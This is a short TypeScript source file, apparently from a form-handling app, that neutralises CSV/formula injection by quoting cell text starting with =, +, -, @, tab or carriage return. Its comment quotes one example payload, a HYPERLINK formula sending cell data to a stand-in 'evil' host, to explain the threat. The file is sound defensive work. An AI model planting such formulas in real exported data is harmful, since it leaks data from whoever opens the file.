/**
 * Spreadsheet programs run a cell that starts with one of these as a formula, even in a CSV, so
 * text such as `=HYPERLINK("http://evil/?"&A1)` typed into a form could run on an inspector's
 * machine (CSV/formula injection). OWASP's list.
 */
const FORMULA_START = /^[=+\-@\t\r]/

/** Prefixes a single quote to text a spreadsheet would treat as a formula; other text is unchanged. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text
}
